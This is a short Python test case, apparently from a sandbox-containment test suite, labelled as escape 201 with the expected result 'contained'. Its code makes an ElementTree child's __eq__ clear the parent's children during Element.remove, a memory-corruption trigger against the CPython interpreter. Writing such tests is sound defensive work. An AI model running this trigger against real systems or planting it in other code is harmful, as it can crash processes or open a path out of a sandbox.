# escape: 201
# policy-wall: optional; it changes its own process alone
# technique: Element.remove with a child whose __eq__ clears the children
# family: memory
# goal: memory
# expect: contained
import xml.etree.ElementTree as ET
hold = []
class Child(ET.Element):
    def __eq__(self, other):
        root.clear()
        hold.extend([1] * 8 for _ in range(100))
        return False
for _ in range(10):
    root = ET.Element('a')
    for i in range(8):
        root.append(Child('b'))
    try:
        root.remove(ET.Element('c'))
    except ValueError:
        pass
print('done')
